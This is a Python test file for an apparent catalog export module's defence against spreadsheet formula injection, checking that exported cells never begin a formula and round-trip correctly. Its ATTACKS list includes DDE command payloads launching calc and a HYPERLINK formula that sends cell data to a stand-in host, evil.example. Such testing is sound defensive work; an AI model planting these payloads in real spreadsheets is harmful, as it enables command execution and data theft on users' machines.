from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roomserver.catalog.bulk.formulas import mark_text, unmark_text

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
    "'''-1",
    "' =1",
]
texts = st.text(st.characters(codec="utf-8") | st.sampled_from("='+-@\t\r\n "), max_size=12)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_a_formula(attack: str) -> None:
    assert mark_text(attack).startswith("'")
    assert unmark_text(mark_text(attack)) == attack


@pytest.mark.parametrize("text", ["", "Talk", "1 + 1 = 2", "'tis", "'", "''", "it's", "a@b.example", "1-2"])
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert mark_text(text) == text
    assert unmark_text(text) == text


@given(texts)
def test_every_text_comes_back(text: str) -> None:
    assert unmark_text(mark_text(text)) == text


@given(texts)
def test_what_is_exported_never_begins_with_a_sign_of_a_formula(text: str) -> None:
    assert not re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]", mark_text(text))


@given(texts)
def test_import_takes_away_only_what_export_put_there(cell: str) -> None:
    text = unmark_text(cell)
    assert text == cell or mark_text(text) == cell
